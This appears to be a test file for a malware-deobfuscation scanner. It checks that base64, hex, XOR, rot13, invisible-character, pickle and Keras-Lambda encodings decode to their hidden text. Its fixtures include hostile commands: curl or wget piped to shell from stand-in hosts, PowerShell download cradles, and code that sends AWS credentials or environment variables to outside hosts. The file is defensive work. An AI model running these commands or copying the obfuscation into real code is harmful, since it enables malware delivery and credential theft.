import { describe, expect, it } from 'vitest';
import { deflateSync } from 'node:zlib';
import { codeInTable, decodedLiteralEdits, decodedNameEdits, decodedTexts, MAX_DECODED_PER_FILE, readable, unpackedScripts } from './decoded.js';

const texts = (code: string): string[] => decodedTexts(code).map((d) => d.text);

describe('texts hidden in literals', () => {
  it('decodes base64 and hex of readable text, and PowerShell-style UTF-16LE base64', () => {
    const cmd = 'curl -s http://x.example/a | sh';
    expect(texts(`x = "${Buffer.from(cmd).toString('base64')}"`)).toEqual([cmd]);
    expect(texts(`x = '${Buffer.from(cmd).toString('hex')}'`)).toEqual([cmd]);
    const ps = "IEX (New-Object Net.WebClient).DownloadString('http://x.example/a.ps1')";
    expect(texts(`args += ["-Enc", "${Buffer.from(ps, 'utf16le').toString('base64')}"]`)).toEqual([ps]);
    // base64 written backwards, decoded after turning it round
    const backwards = [...Buffer.from(cmd).toString('base64')].reverse().join('');
    expect(texts(`_(b'${backwards}')`)).toEqual([cmd]);
    // one character before the base64, dropped by the loader (`s.slice(1)`): a length base64 never has
    const url = Buffer.from('http://203.0.113.77:1224').toString('base64');
    expect(url.length % 4).toBe(0);
    expect(texts(`const Z = "T${url}";`)).toEqual(['http://203.0.113.77:1224']);
  });

  it('decodes literals written wholly in escapes and lists of character codes, where they say something', () => {
    const escaped = [...'require("child_process")'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('');
    expect(texts(`var a = '${escaped}';`)).toEqual(['require("child_process")']);
    const codes = [...'exec("curl -sk https://x.example/u.sh | sh")'].map((c) => c.charCodeAt(0));
    expect(texts(`const _c = [\n  ${codes.join(',')}\n];`)).toEqual(['exec("curl -sk https://x.example/u.sh | sh")']);
    // a table of numbers is not text: out of the printable range, or without a word
    expect(texts('const crc = [0, 1996959894, 3993919788, 2567524794, 124634137, 1886057615, 3915621685, 2657392035, 249268274, 2044508324, 3772115230, 2547177864];')).toEqual([]);
    expect(texts('const digits = [48, 49, 50, 51, 52, 53, 54, 55, 56, 57, 48, 49];')).toEqual([]);
    // an address has no words, yet a whole IPv4 address in character codes, base64 or hex is what a dropper hides
    const ip = [...'185.212.44.9'].map((c) => c.charCodeAt(0));
    expect(texts(`const H = String.fromCharCode(${ip.join(', ')});`)).toEqual(['185.212.44.9']);
    expect(texts(`H = "${Buffer.from('91.243.59.120:8443').toString('base64')}"`)).toEqual(['91.243.59.120:8443']);
    // digits and dots that are not one address stay data
    expect(texts(`const v = String.fromCharCode(${[...'1.2.3.4.5.6.7'].map((c) => c.charCodeAt(0)).join(', ')});`)).toEqual([]);
  });

  it('turns round literals written backwards, also once decoded', () => {
    expect(texts('_cmd = _r("hsab | hs.i/ofni.kdsyp//:ptth LSsf- lruc")')).toEqual(['curl -fsSL http://pysdk.info/i.sh | bash']);
    const backwards = [...'hs | hs.x/moc.elpmaxe//:ptth -Oq- tegw'].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('');
    expect(texts(`var a = ['${backwards}'];`)).toEqual(['hs | hs.x/moc.elpmaxe//:ptth -Oq- tegw', 'wget -qO- http://example.com/x.sh | sh']);
    // ordinary prose is left alone
    expect(texts('msg = "Run curl to fetch the file, then check its hash."')).toEqual([]);
  });

  it('decodes rot13 literals that hold a URL or a credential path, not words that happen to read as a host', () => {
    const texts = decodedTexts('U = "uggcf://hcybnq.rknzcyr.arg/i1".translate(T)\nF = ["~/.njf/perqragvnyf"]\nS = "cebzcg.net"\n').map((d) => d.text);
    expect(texts).toContain('https://upload.example.net/v1');
    expect(texts).toContain('~/.aws/credentials');
    expect(decodedTexts("style = {'prompt.arg': 'bold', 'prompt.arg.text': ''}\n").map((d) => d.text)).toEqual([]);
  });

  it('decodes bytes written as invisible characters: variation selectors and Unicode tags', () => {
    const cmd = "require('child_process').exec('curl -s http://x.example/a | sh')";
    const selectors = [...Buffer.from(cmd)].map((b) => String.fromCodePoint(b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)).join('');
    expect(texts(`const p = s(\`${selectors}\`);`)).toEqual([cmd]);
    const tags = [...cmd].map((c) => String.fromCodePoint(0xe0000 + c.charCodeAt(0))).join('');
    expect(texts(`x = '${tags}'`)).toEqual([cmd]);
    // a flag emoji's tags and an emoji's one selector are not data
    expect(texts("x = '\u{1F3F4}\u{E0067}\u{E0062}\u{E0065}\u{E006E}\u{E0067}\u{E007F} \u2764\uFE0F'")).toEqual([]);
    // selectors that decode to bytes that are not text (sixty-four zero bytes)
    expect(texts(`x = '${'\uFE00'.repeat(64)}'`)).toEqual([]);
  });

  it('answers binary, broken and hostile input without a hang, and keeps to its bound', () => {
    expect(texts(`x = "${Buffer.from([0, 1, 2, 3, 250, 251, 252, 253, 254, 255, 0, 1, 2, 3, 4, 5]).toString('base64')}"`)).toEqual([]);
    expect(texts("x = '\\x6' + '\\x'")).toEqual([]);
    expect(texts(`x = [${'65, '.repeat(50_000)}`)).toEqual([]);
    expect(texts(`"${' lruc'.repeat(100_000)}`)).toEqual([]);
    const many = Array.from({ length: 300 }, (_, i) => `"${Buffer.from(`curl http://x.example/${i} | sh`).toString('base64')}"`).join('\n');
    expect(decodedTexts(many)).toHaveLength(MAX_DECODED_PER_FILE);
    expect(readable('\u0000\u0001abc')).toBe(false);
  });
});

describe('hidden texts at scale', () => {
  it('decodes a list of half a million character codes and scans a long line of backwards words without running out of stack or time', () => {
    const big = `x = [${Array.from({ length: 500_000 }, (_, i) => (i % 4 === 3 ? 32 : 97 + (i % 4))).join(',')}, 46]`;
    expect(texts(big)[0]?.length).toBe(500_001);
    expect(texts(`"${' lruc'.repeat(200_000)}\n`)).toEqual([]);
    expect(texts(`${'x'.repeat(500)}"${' //:ptth a'.repeat(100_000)}`)).toEqual([]);
  });
});

describe('character codes shifted by a constant the file applies', () => {
  const cmd = 'powershell Add-MpPreference -ExclusionPath C:\\Users';
  it('decodes a list the file turns into characters with chr(c - k), chr(c + k) or fromCharCode(c ^ k)', () => {
    const list = (f: (c: number) => number): string => `[${[...cmd].map((c) => f(c.charCodeAt(0))).join(', ')}]`;
    expect(texts(`D = ${list((c) => c + 7)}\nS = ''.join(chr(c - 7) for c in D)\n`)).toEqual([cmd]);
    expect(texts(`D = ${list((c) => c - 3)}\nS = ''.join(chr(c + 3) for c in D)\n`)).toEqual([cmd]);
    expect(texts(`const D = ${list((c) => c + 5)}; const s = D.map((x) => String.fromCharCode(x - 5)).join('');`)).toEqual([cmd]);
    // XOR with a key that keeps every code at two or three digits (a list of codes is twelve or more such numbers)
    expect(texts(`const D = ${list((c) => c ^ 0x80)}; const s = D.map((x) => String.fromCharCode(x ^ 128)).join('');`)).toEqual([cmd]);
    // the same list without the shift in the file is not text
    expect(texts(`D = ${list((c) => c + 7)}\nS = bytes(D)\n`)).toEqual([]);
    // a XOR that makes some codes one digit (`'(' ^ 0x2a` is 2): read once the file applies a shift
    const call = 'require("child_process").exec("curl -s http://x.example/a | sh")';
    const xoredCall = `[${[...call].map((c) => c.charCodeAt(0) ^ 0x2a).join(', ')}]`;
    expect(xoredCall).toMatch(/[[ ]2,/);
    expect(texts(`const D = ${xoredCall};\nnew Function('require', D.map((c) => String.fromCharCode(c ^ 0x2a)).join(''))(require);\n`)).toEqual([call]);
    expect(texts(`const D = ${xoredCall};\nsend(D);\n`)).toEqual([]);
    // the shift held by a name the file gives a number (a default parameter), and a name it gives none
    expect(texts(`D = ${list((c) => c + 3)}\ndef _unpack(t, k=3):\n    return "".join(chr(c - k) for c in t)\n`)).toEqual([cmd]);
    expect(texts(`D = ${list((c) => c + 3)}\ndef _unpack(t, k):\n    return "".join(chr(c - k) for c in t)\n`)).toEqual([]);
    // a table of hexadecimal bytes XORed with a named constant in a bytes generator (`bytes(c ^ BASE for c in RAMP)`)
    const hex = `[${[...cmd].map((c) => `0x${(c.charCodeAt(0) ^ 0x5a).toString(16).padStart(2, '0')}`).join(', ')}]`;
    expect(texts(`RAMP_BASE = 0x5a\nRAMP = ${hex}\ndef expand():\n    return bytes(c ^ RAMP_BASE for c in RAMP)\n`)).toEqual([cmd]);
    expect(texts(`RAMP = ${hex}\ndef expand():\n    return bytes(RAMP)\n`)).toEqual([]);
  });
  it('decodes a quoted literal with a shift of characters read in the same call, when it then names a runner or an address', () => {
    const code = "__import__('os').system('curl -s http://x.example/a.sh | sh')";
    const xored = (k: number): string => [...code].map((c) => String.fromCharCode(c.charCodeAt(0) ^ k)).join('');
    // the XOR'd literal is printable and has words and brackets: readable as written, so only the shift tells
    const lit = xored(7).replace(/\\/g, '\\\\').replace(/'/g, "\\'");
    expect(texts(`_ = lambda s: ''.join(map(lambda c: chr(ord(c) ^ 7), s))\nX = _('${lit}')\n`)).toEqual([code]);
    const shiftedUp = [...'require("child_process").exec(cmd)'].map((c) => String.fromCharCode(c.charCodeAt(0) + 1)).join('');
    expect(texts(`const d = (s) => s.split('').map((c, i) => String.fromCharCode(s.charCodeAt(i) - 1)).join(''); d("${shiftedUp.replace(/"/g, '\\"')}");`)).toEqual(['require("child_process").exec(cmd)']);
    // ordinary strings in a file with such a cipher: nothing that names a runner or an address after the shift
    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\nMSG = 'the configuration file could not be read'\n`)).toEqual([]);
    // a literal that already names a runner as written is not read a second time
    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\nMSG = 'subprocess exec failed: see the log'\n`)).toEqual([]);
    // without the shift in the file the XOR'd literal is left as written
    expect(texts(`X = '${lit}'\n`)).toEqual([]);
    // a megabyte of escaped quotes, or of unclosed ones, is read in one pass
    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\n'${"\\'".repeat(400_000)}`)).toEqual([]);
    expect(texts(`_ = lambda s: ''.join(chr(ord(c) ^ 7) for c in s)\n${`'${'a'.repeat(20)}`.repeat(50_000)}`)).toEqual([]);
  });
  it('joins a list of three or more base64 pieces and decodes the whole', () => {
    const cmd = "(New-Object Net.WebClient).DownloadFile('http://198.51.100.7/a.ps1', $p)";
    const b64 = Buffer.from(cmd, 'utf16le').toString('base64');
    const pieces = b64.match(/.{1,24}/g) ?? [];
    expect(pieces.length).toBeGreaterThan(3);
    const list = (sep: string, trail: string): string => `PARTS = [${pieces.map((p) => `"${p}"`).join(sep)}${trail}]`;
    expect(texts(list(',\n    ', ',\n'))).toContain(cmd);
    expect(texts(`const parts = (${pieces.map((p) => `'${p}'`).join(', ')});`)).toContain(cmd);
    // two pieces, an unclosed list, or a list with a non-base64 item are not joined
    expect(texts(`X = ["${pieces[0]}", "${pieces[1]}"]`)).not.toContain(cmd);
    expect(texts(list(', ', '').replace(/]$/, ''))).not.toContain(cmd);
    expect(texts(`X = [${pieces.map((p) => `"${p}"`).join(', ')}, f(x)]`)).not.toContain(cmd);
    // a megabyte of list openings and short items is read in one pass
    expect(texts(`[${'"abcdefgh", '.repeat(90_000)}`)).toEqual([]);
    expect(texts('["x", '.repeat(150_000))).toEqual([]);
  });
  it('pickles kept as base64 are read for the names their opcodes carry', async () => {
    const { pickleText } = await import('./decoded.js');
    // protocol 0: GLOBAL posix system, then the command as a unicode string
    expect(pickleText(Buffer.from("cposix\nsystem\np0\n(Vcurl -s http://x.example/i.sh | sh\np1\ntp2\nRp3\n.", 'latin1'))).toBe('posix\nsystem\np0\ncurl -s http://x.example/i.sh | sh\np1\ntp2\nRp3\n.');
    // protocol 4: STACK_GLOBAL of two short unicode strings
    const p4 = Buffer.concat([Buffer.from([0x80, 4, 0x95, 0, 0, 0, 0, 0, 0, 0, 0, 0x8c, 5]), Buffer.from('posix'), Buffer.from([0x94, 0x8c, 6]), Buffer.from('system'), Buffer.from([0x94, 0x93, 0x94, 0x8c, 2]), Buffer.from('id'), Buffer.from([0x94, 0x85, 0x94, 0x52, 0x94, 0x2e])]);
    expect(pickleText(p4)?.split('\n').slice(0, 3)).toEqual(['posix', 'system', 'id']);
    expect(pickleText(Buffer.from('plain text, not a pickle'))).toBeNull();
    // truncated or damaged pickles give what they hold, without throwing
    expect(pickleText(p4.subarray(0, 20))?.split('\n')).toEqual(['posix']);
    expect(pickleText(Buffer.from([0x80, 4, 0xff, 0xfe]))).toBe('');
    expect(pickleText(Buffer.from('cposix\nsys', 'latin1'))).toBeNull();
    expect(pickleText(Buffer.alloc(0))).toBeNull();
  });
  it('reads a text pickle that opens with a dict or list, its GLOBAL after other opcodes on the line', async () => {
    const { pickleText } = await import('./decoded.js');
    const p0 = '(dp0\nVcoef\np1\n(lp2\nF0.83\naF-1.12\nasV_compat\np6\ncos\nsystem\n(Vnohup sh -c "id" &\ntRs.';
    expect(pickleText(Buffer.from(p0, 'latin1'))?.split('\n')).toEqual(expect.arrayContaining(['coef', '_compat', 'os', 'system', 'nohup sh -c "id" &']));
    expect(pickleText(Buffer.from('acos\nsystem\n', 'latin1'))?.split('\n').slice(0, 2)).toEqual(['os', 'system']);
    // a dict of numbers names no callable: not read as a pickle
    expect(pickleText(Buffer.from('(dp0\nVa\np1\nI1\ns.', 'latin1'))).toBeNull();
  });
  it('finds the pickle in saved-object files: a pickle, a NumPy object array, a zip checkpoint\'s stored data.pkl', async () => {
    const { pickleInData } = await import('./decoded.js');
    const p0 = Buffer.from('cposix\nsystem\n(Vid\ntR.', 'latin1');
    expect(pickleInData('m/model.joblib', p0)?.split('\n').slice(0, 3)).toEqual(['posix', 'system', 'id']);
    expect(pickleInData('m/model.txt', p0)).toBeNull();
    const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
    const npy = Buffer.concat([Buffer.from([0x93]), Buffer.from('NUMPY'), Buffer.from([1, 0, header.length + 1, 0]), Buffer.from(`${header}\n`), p0]);
    expect(pickleInData('data/centroids.npy', npy)?.split('\n').slice(0, 2)).toEqual(['posix', 'system']);
    // a zip with the member archive/data.pkl (a PyTorch checkpoint's layout), stored or deflated
    const { buildZip } = await import('../../../core/archive/build.fixture.js');
    const zip = Buffer.from(buildZip([{ name: 'archive/version', data: '3\n' }, { name: 'archive/data.pkl', data: p0 }]));
    expect(pickleInData('weights/model.pt', zip)?.split('\n').slice(0, 2)).toEqual(['posix', 'system']);
    const deflated = Buffer.from(buildZip([{ name: 'archive/data.pkl', data: p0, deflate: true }]));
    expect(pickleInData('weights/model.pt', deflated)?.split('\n').slice(0, 2)).toEqual(['posix', 'system']);
    // a member that fails its CRC is not read
    expect(pickleInData('weights/model.pt', Buffer.from(buildZip([{ name: 'archive/data.pkl', data: p0, badCrc: true }])))).toBeNull();
    // truncated and damaged files answer null or what they hold, without throwing
    expect(pickleInData('weights/model.pt', zip.subarray(0, 40))).toBeNull();
    expect(pickleInData('data/x.npy', npy.subarray(0, 12))).toBeNull();
    expect(pickleInData('m/x.pkl', Buffer.from([0x80, 4]))).toBeNull();
  });
});

describe("Keras models' Lambda layers", () => {
  // marshalled code objects as Keras saves a Lambda's function (Python 3.11 marshal, base64): `lambda x:
  // __import__("os").system("wget -q -O- http://198.51.100.23/s | sh") or x`, in Keras 2's form broken every 76
  // characters, and `lambda x: tf.math.l2_normalize(x, axis=-1)`
  const RUNS =
    '4wEAAAAAAAAAAAAAAAMAAAADAAAA80oAAACXAHQBAAAAAAAAAAAAAGQBpgEAAKsBAAAAAAAAAACg\\nAQAAAAAAAAAAAAAAAAAAAAAAAAAAZAKmAQAAqwEAAAAAAAAAAHABfABTACkDTtoCb3N6J3dnZXQg\\nLXEgLU8tIGh0dHA6Ly8xOTguNTEuMTAwLjIzL3MgfCBzaCkC2gpfX2ltcG9ydF9f2gZzeXN0ZW0p\\nAdoBeHMBAAAAIPoIPHN0cmluZz76CDxsYW1iZGE+cgcAAAABAAAAcyMAAACAAI0qkFTRChrUChrX\\nCiHSCiHQIkvRCkzUCkzQClHQUFGAAPMAAAAA\\n';
  const NORMALISES =
    '4wEAAAAAAAAAAAAAAAQAAAADAAAA80QAAACXAHQAAAAAAAAAAAAAAGoBAAAAAAAAAACgAgAAAAAAAAAAAAAAAAAAAAAAAAAAfABkAawCpgIAAKsCAAAAAAAAAABTACkDTun/////KQHaBGF4aXMpA9oCdGbaBG1hdGjaDGwyX25vcm1hbGl6ZSkB2gF4cwEAAAAg+gg8c3RyaW5nPvoIPGxhbWJkYT5yCQAAAAEAAABzGwAAAIAAjSKMJ9cKHtIKHphxoHLQCh7RCirUCiqAAPMAAAAA';
  const keras2 = (code: string): string =>
    `{"class_name": "Functional", "config": {"layers": [{"class_name": "Lambda", "config": {"name": "l2", "function": ["${code}", null, null], "function_type": "lambda"}}]}}`;
  it('reads the strings of the bytecode by type and length, never unmarshalling it', async () => {
    const { lambdaInData } = await import('./decoded.js');
    expect(lambdaInData('m/model.json', Buffer.from(keras2(RUNS)))?.split('\n')).toEqual(['os', 'wget -q -O- http://198.51.100.23/s | sh', '__import__', 'system', '<string>', '<lambda>']);
    expect(lambdaInData('m/model.json', Buffer.from(keras2(NORMALISES)))?.split('\n')).toEqual(['axis', 'tf', 'math', 'l2_normalize', '<string>', '<lambda>']);
    // Keras 3's __lambda__ object, in a .keras zip's deflated config.json; an HDF5 file's attribute is read as bytes
    const keras3 = `{"class_name": "Lambda", "config": {"function": {"class_name": "__lambda__", "config": {"code": "${RUNS.replaceAll('\\n', '')}"}}}}`;
    const { buildZip } = await import('../../../core/archive/build.fixture.js');
    const zipped = Buffer.from(buildZip([{ name: 'metadata.json', data: '{}' }, { name: 'config.json', data: keras3, deflate: true }]));
    expect(lambdaInData('m/model.keras', zipped)).toContain('system');
    const h5 = Buffer.concat([Buffer.from([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0]), Buffer.from(keras2(RUNS)), Buffer.alloc(64)]);
    expect(lambdaInData('m/weights.h5', h5)).toContain('__import__\nsystem');
    // not a model file, no Lambda layer, a literal that is no code object, truncated bytecode: nothing, no throw
    expect(lambdaInData('m/model.txt', Buffer.from(keras2(RUNS)))).toBeNull();
    expect(lambdaInData('m/model.json', Buffer.from(keras2(RUNS).replace('"Lambda"', '"Dense"')))).toBeNull();
    expect(lambdaInData('m/model.json', Buffer.from(keras2(Buffer.from('not a code object at all').toString('base64'))))).toBeNull();
    expect(() => lambdaInData('m/model.json', Buffer.from(keras2(RUNS.slice(0, 120))))).not.toThrow();
    expect(lambdaInData('m/model.keras', zipped.subarray(0, 50))).toBeNull();
  });
  it('a model whose Lambda calls a command runner is pickle_runs_command; one that normalises is not', async () => {
    const { analyzeSource } = await import('./index.js');
    const { releaseOf } = await import('../release.fixture.js');
    const { REPO_ROOT } = await import('../../../../test/corpora.js');
    const ctx = { resourcesDir: `${REPO_ROOT}/resources`, internalNamespaces: [] };
    const run = (code: string): string[] =>
      analyzeSource(releaseOf('pypi', { 'blocks/zoo.py': 'import json\n', 'blocks/pretrained/textcnn.json': keras2(code) }), ctx).findings.map((f) => `${f.code}:${f.file}`);
    expect(run(RUNS)).toContain('pickle_runs_command:blocks/pretrained/textcnn.json');
    expect(run(NORMALISES)).toEqual([]);
  });
});

describe("scripts packed with Dean Edwards' packer", () => {
  const packed = (payload: string, radix: number, words: string): string =>
    `eval(function(p,a,c,k,e,d){e=function(c){return c.toString(a)};while(c--){if(k[c]){p=p.replace(new RegExp('\\\\b'+e(c)+'\\\\b','g'),k[c])}}return p}('${payload}',${radix},${words.split('|').length},'${words}'.split('|'),0,{}))`;
  it('reads the payload with each index word replaced by its word of the list, quotes unescaped', () => {
    const code = packed("0 1=2(\\'3\\');1.4(\\'5 -s 6\\')", 36, 'var|cp|require|child_process|exec|curl|http://x.example.invalid/a');
    expect(unpackedScripts(code).map((d) => d.text)).toEqual(["var cp=require('child_process');cp.exec('curl -s http://x.example.invalid/a')"]);
    expect(decodedTexts(code).map((d) => d.text)).toContain("var cp=require('child_process');cp.exec('curl -s http://x.example.invalid/a')");
  });
  it('keeps words the list leaves empty or out of range, and reads base 62', () => {
    expect(unpackedScripts(packed('0 1 z Z 10', 62, 'a||b')).map((d) => d.text)).toEqual(['a 1 z Z 10']);
    expect(unpackedScripts(packed('A', 62, Array.from({ length: 40 }, (_, i) => (i === 36 ? 'hit' : 'w')).join('|'))).map((d) => d.text)).toEqual(['hit']);
  });
  it('reads nothing from text that only looks like a call with a word list', () => {
    expect(unpackedScripts("x.split('|')")).toEqual([]);
    expect(unpackedScripts(packed('same', 10, 'a|b'))).toEqual([]);
  });
});

describe('decoded literals written in place', () => {
  const hex = (s: string): string => Buffer.from(s).toString('hex');
  it('writes a hex or base64 literal as the address or command it decodes to, quoted as it was', () => {
    const code = `M = bytes.fromhex("${hex('http://169.254.169.254/latest/')}").decode()`;
    const [edit] = decodedLiteralEdits(code);
    expect(edit?.text).toBe('"http://169.254.169.254/latest/"');
    expect(code.slice(edit!.at, edit!.end)).toBe(`"${hex('http://169.254.169.254/latest/')}"`);
    expect(decodedLiteralEdits(`c = '${Buffer.from('curl -s https://cdn-sync.net/a | sh').toString('base64')}'`).map((e) => e.text)).toEqual(["'curl -s https://cdn-sync.net/a | sh'"]);
  });

  it('leaves literals whose text says nothing of an address or a command, or could not be written as one literal', () => {
    expect(decodedLiteralEdits(`x = "${Buffer.from('The quick brown fox jumps over').toString('base64')}"`)).toEqual([]);
    expect(decodedLiteralEdits(`x = "${hex("curl 'http://cdn-sync.net/a'")}"`)).toEqual([]);
    expect(decodedLiteralEdits(`x = "${hex('curl http://a.net/x\nsh')}"`)).toEqual([]);
  });
});

describe('names bound to a decoded literal', () => {
  it('writes later uses of the name as the decoding call, not assignments to it or its members', () => {
    const code = '_EP = bytes.fromhex("68747470733a2f2f78").decode()\n\ndef go():\n    httpx.get(_EP, timeout=4)\n    _EP.upper()\n    _EP = "x"\n';
    const edits = decodedNameEdits(code);
    expect(edits.map((e) => code.slice(e.at, e.end))).toEqual(['_EP']);
    expect(edits[0]?.text).toBe('bytes.fromhex("68747470733a2f2f78").decode()');
    expect(decodedNameEdits('_EP = "https://x.example"\nget(_EP)\n')).toEqual([]);
  });
});


describe('compressed literals', () => {
  it('inflates a zlib or gzip stream in a base64 literal, and leaves a truncated or corrupt one as bytes without throwing', async () => {
    const { deflateSync, gzipSync } = await import('node:zlib');
    const code = 'import os\nos.system("curl -s https://cdn-sync.example-cdn.net/p | sh")\n';
    const z = deflateSync(Buffer.from(code)).toString('base64');
    const g = gzipSync(Buffer.from(code)).toString('base64');
    expect(decodedTexts(`x = "${z}"`).map((d) => d.text)).toContain(code);
    expect(decodedTexts(`x = "${g}"`).map((d) => d.text)).toContain(code);
    const truncated = deflateSync(Buffer.from(code.repeat(4))).subarray(0, 24).toString('base64');
    const corrupt = Buffer.from([0x78, 0x9c, ...Buffer.from('not a deflate stream at all')]).toString('base64');
    for (const bad of [truncated, corrupt]) expect(() => decodedTexts(`x = "${bad}"`)).not.toThrow();
    expect(decodedTexts(`x = "${truncated}"`).map((d) => d.text)).not.toContain(code);
  });
});

describe('programs in a table\'s base64 cells', () => {
  const py = 'import os, urllib.request\nurllib.request.urlopen("https://203.0.113.9/t", data=open(os.path.expanduser("~/.aws/credentials"), "rb").read())\n';
  const js = "const https = require('https');\nhttps.request({ host: 'pkg-telemetry.io' }).end(JSON.stringify(process.env));\n";
  const svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 3 2"><path fill="#c8102e" d="M0 0h3v2H0z"/></svg>';
  const b64 = (s: string): string => Buffer.from(s).toString('base64');
  const table = (cells: string[]): Uint8Array => Buffer.from(`code,name,data\n${cells.map((c, i) => `C${i},Name ${i},${c}`).join('\n')}\n`);

  it('reads deflated and plain cells holding programs, with their lines, and leaves markup and other files', () => {
    const found = codeInTable('pkg/data/countries.csv', table([b64(svg), deflateSync(py).toString('base64'), b64(js)]));
    expect(found.map((c) => [c.language, c.line])).toEqual([['python', 2], ['javascript', 3]]);
    expect(found[0]?.text).toBe(py);
    expect(codeInTable('pkg/data/countries.json', table([b64(py)]))).toEqual([]);
    expect(codeInTable('pkg/data/flags.tsv', Buffer.from(`XK\t${b64(svg)}\n`))).toEqual([]);
  });

  it('stays bounded on broken deflate, huge cells and many cells', () => {
    const broken = Buffer.from([0x78, 0x9c, ...Buffer.from('not deflate data, only text that goes on and on')]).toString('base64');
    expect(() => codeInTable('t.csv', table([broken, 'A'.repeat(2_000_000)]))).not.toThrow();
    expect(codeInTable('t.csv', table(Array.from({ length: 6000 }, () => b64(py))))).toHaveLength(MAX_DECODED_PER_FILE);
  });
});
